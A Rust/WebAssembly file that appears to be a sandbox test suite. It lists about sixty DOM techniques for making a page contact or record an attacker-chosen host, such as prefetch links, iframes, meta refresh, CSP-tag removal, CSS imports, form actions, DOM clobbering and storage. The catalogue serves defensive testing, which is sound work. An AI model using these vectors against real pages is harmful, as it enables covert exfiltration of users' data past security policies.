//! Attacks with nothing but imports that the page has: the audit lets them pass, and the boundary has to
//! hold them.

use js_sys::{Array, Reflect, Uint8Array, global};
use wasm_bindgen::JsValue;

use crate::{
    Attack,
    browser::{self, Any, element, in_root, page, put, root},
};

type Done = Result<(), JsValue>;

/// A new element with these attributes, in the page.
fn with(kind: &str, attributes: &[(&str, &str)]) -> Done {
    put(kind, attributes).map(drop)
}

/// The same with a link's kind.
fn link(rel: &str, host: &str) -> Done {
    with("link", &[("rel", rel), ("href", &at(host)), ("as", "image")])
}

fn at(host: &str) -> String {
    format!("http://{host}/")
}

fn pressed(kind: &str, attributes: &[(&str, &str)]) -> Done {
    put(kind, attributes)?.click();
    Ok(())
}

fn with_words(kind: &str, attributes: &[(&str, &str)], words: &str) -> Done {
    let made = page()?.create_element(kind)?;
    for (name, value) in attributes {
        made.set_attribute(name, value)?;
    }
    made.set_text_content(Some(words));
    element("content")?.insert_before(&made, None).map(drop)
}

fn sent(form: &Any, button: &[(&str, &str)]) -> Done {
    let made = page()?.create_element("button")?;
    for (name, value) in button {
        made.set_attribute(name, value)?;
    }
    form.insert_before(&made, None)?;
    made.click();
    Ok(())
}

pub(crate) const ATTACKS: &[Attack] = &[
    ("link-dns-prefetch", |host| link("dns-prefetch", host)),
    ("link-preconnect", |host| link("preconnect", host)),
    ("link-prefetch", |host| link("prefetch", host)),
    ("link-preload", |host| link("preload", host)),
    ("link-modulepreload", |host| link("modulepreload", host)),
    ("link-stylesheet", |host| link("stylesheet", host)),
    ("link-manifest", |host| link("manifest", host)),
    ("link-prerender", |host| link("prerender", host)),
    ("icon-changed", |host| in_root("link[rel=icon]")?.set_attribute("href", &at(host))),
    ("icon-to-dns-prefetch", |host| {
        let icon = in_root("link[rel=icon]")?;
        icon.set_attribute("rel", "dns-prefetch")?;
        icon.set_attribute("href", &at(host))
    }),
    ("icon-cloned", |host| {
        let icon = in_root("link[rel=icon]")?.clone_node()?;
        icon.set_attribute("rel", "dns-prefetch")?;
        icon.set_attribute("href", &at(host))?;
        element("content")?.insert_before(&icon, None).map(drop)
    }),
    ("meta-refresh", |host| with("meta", &[("http-equiv", "refresh"), ("content", &format!("0;url={}", at(host)))])),
    ("meta-changed", |host| {
        let meta = in_root("meta[name=referrer]")?;
        let again = meta.clone_node()?;
        again.set_attribute("content", &format!("0;url={}", at(host)))?;
        again.set_attribute("http-equiv", "refresh")?;
        meta.parent_node().ok_or(JsValue::NULL)?.insert_before(&again, None).map(drop)
    }),
    ("policy-taken-away", |host| {
        let policy = in_root("meta[http-equiv=Content-Security-Policy]")?;
        policy.parent_node().ok_or(JsValue::NULL)?.remove_child(&policy)?;
        with("img", &[("src", &at(host))])
    }),
    ("iframe-src", |host| with("iframe", &[("src", &at(host))])),
    ("iframe-srcdoc", |host| {
        with("iframe", &[("srcdoc", &format!("<link rel=dns-prefetch href=http://{host}/><img src=http://{host}/>"))])
    }),
    ("iframe-data", |host| {
        with("iframe", &[("src", &format!("data:text/html,<script>location='http://{host}/'</script>"))])
    }),
    ("frame-in-frameset", |host| {
        let set = page()?.create_element("frameset")?;
        let frame = page()?.create_element("frame")?;
        frame.set_attribute("src", &at(host))?;
        set.insert_before(&frame, None)?;
        root()?.insert_before(&set, None).map(drop)
    }),
    ("object-data", |host| with("object", &[("data", &at(host))])),
    ("embed-src", |host| with("embed", &[("src", &at(host))])),
    ("image-src", |host| with("img", &[("src", &at(host))])),
    ("image-srcset", |host| with("img", &[("srcset", &format!("{} 1x", at(host)))])),
    ("video-poster", |host| with("video", &[("poster", &at(host)), ("src", &at(host))])),
    ("audio-src", |host| with("audio", &[("src", &at(host)), ("autoplay", "")])),
    ("input-image", |host| with("input", &[("type", "image"), ("src", &at(host))])),
    ("script-src", |host| with("script", &[("src", &at(host))])),
    ("script-text", |host| with_words("script", &[], &format!("location = 'http://{host}/'"))),
    ("speculation-rules", |host| {
        let rules = format!(r#"{{"prefetch":[{{"source":"list","urls":["http://{host}/"]}}]}}"#);
        with_words("script", &[("type", "speculationrules")], &rules)
    }),
    ("style-import", |host| with_words("style", &[], &format!("@import url(http://{host}/);"))),
    ("style-attribute", |host| with("p", &[("style", &format!("background:url(http://{host}/)"))])),
    ("style-changed", |host| {
        in_root("style")?.set_text_content(Some(&format!("@import url(http://{host}/);")));
        Ok(())
    }),
    ("handler-attribute", |host| pressed("button", &[("onclick", &format!("location='http://{host}/'"))])),
    ("anchor-there", |host| with("a", &[("href", &at(host))])),
    ("anchor-click", |host| pressed("a", &[("href", &at(host))])),
    ("anchor-click-new-tab", |host| pressed("a", &[("href", &at(host)), ("target", "_blank")])),
    ("anchor-download", |host| pressed("a", &[("href", &at(host)), ("download", "x")])),
    ("anchor-ping", |host| pressed("a", &[("href", "#make"), ("ping", &at(host))])),
    ("anchor-of-the-page", |host| {
        let tab = element("tab-make")?;
        tab.set_attribute("href", &at(host))?;
        tab.click();
        Ok(())
    }),
    ("anchor-script", |host| pressed("a", &[("href", &format!("javascript:location='http://{host}/'"))])),
    ("anchor-to-the-host", |host| pressed("a", &[("href", &format!("?{host}"))])),
    ("area-click", |host| pressed("area", &[("href", &at(host))])),
    ("form-action", |host| sent(&put("form", &[("action", &at(host))])?, &[])),
    ("form-formaction", |host| sent(&put("form", &[])?, &[("formaction", &at(host))])),
    ("form-to-the-host", |host| {
        let form = put("form", &[])?;
        let field = page()?.create_element("input")?;
        field.set_attribute("name", "q")?;
        field.set_attribute("value", host)?;
        form.insert_before(&field, None)?;
        sent(&form, &[])
    }),
    ("base-changed", |host| {
        let base = page()?.create_element("base")?;
        base.set_attribute("href", &at(host))?;
        let first = root()?.first_element_child().ok_or(JsValue::NULL)?;
        first.insert_before(&base, None)?;
        pressed("a", &[("href", "x")])
    }),
    ("svg-image", |host| {
        let space = Some("http://www.w3.org/2000/svg");
        let svg = page()?.create_element_ns(space, "svg")?;
        let image = page()?.create_element_ns(space, "image")?;
        image.set_attribute("href", &at(host))?;
        svg.insert_before(&image, None)?;
        element("content")?.insert_before(&svg, None).map(drop)
    }),
    ("link-by-its-namespace", |host| {
        let link = page()?.create_element_ns(Some("http://www.w3.org/1999/xhtml"), "link")?;
        link.set_attribute("rel", "dns-prefetch")?;
        link.set_attribute("href", &at(host))?;
        element("content")?.insert_before(&link, None).map(drop)
    }),
    ("inner-html", |host| {
        element("content")?.set_inner_html(&format!("<link rel=dns-prefetch href=http://{host}/>"));
        Ok(())
    }),
    ("clobbered-form", |host| {
        // The form's fields stand where its properties were, if these are looked for on the form.
        let form = put("form", &[])?;
        for name in ["localName", "nodeType", "setAttribute", "ownerDocument"] {
            let field = page()?.create_element("input")?;
            field.set_attribute("id", name)?;
            form.insert_before(&field, None)?;
        }
        form.set_attribute("action", &at(host))?;
        sent(&form, &[])
    }),
    ("text-put-into-style", |host| {
        let style = in_root("style")?;
        let text = page()?.create_text_node(&format!("@import url(http://{host}/);"));
        style.insert_before(&text, None).map(drop)
    }),
    ("location-by-reflection", |host| Reflect::set(&global(), &"location".into(), &at(host).into()).map(drop)),
    // What stays behind in the browser rather than leaves it.
    ("kept-in-the-address", |host| pressed("a", &[("href", &format!("#{host}"))])),
    ("kept-in-the-set-up", |host| {
        browser::set_fragment(&format!("make?name={host}"));
        browser::set_fragment(&format!("make?read-by={host}&product=netbox"));
        browser::set_fragment(host);
        Ok(())
    }),
    ("kept-in-storage", |host| {
        browser::remember(host);
        browser::remember(&format!("theme=dark;destination={host};preset=hex;length=64"));
        Ok(())
    }),
    ("kept-in-the-title", |host| {
        in_root("title")?.set_text_content(Some(host));
        Ok(())
    }),
    ("kept-in-the-windows-name", |host| Reflect::set(&global(), &"name".into(), &host.into()).map(drop)),
    ("kept-in-a-files-name", |host| {
        let name = format!("{}.txt", host.replace('.', "-"));
        let pieces = Array::new();
        pieces.push(&Uint8Array::from(host.as_bytes()));
        if browser::save(&pieces, &name, "text/plain") { Ok(()) } else { Err(JsValue::NULL) }
    }),
];
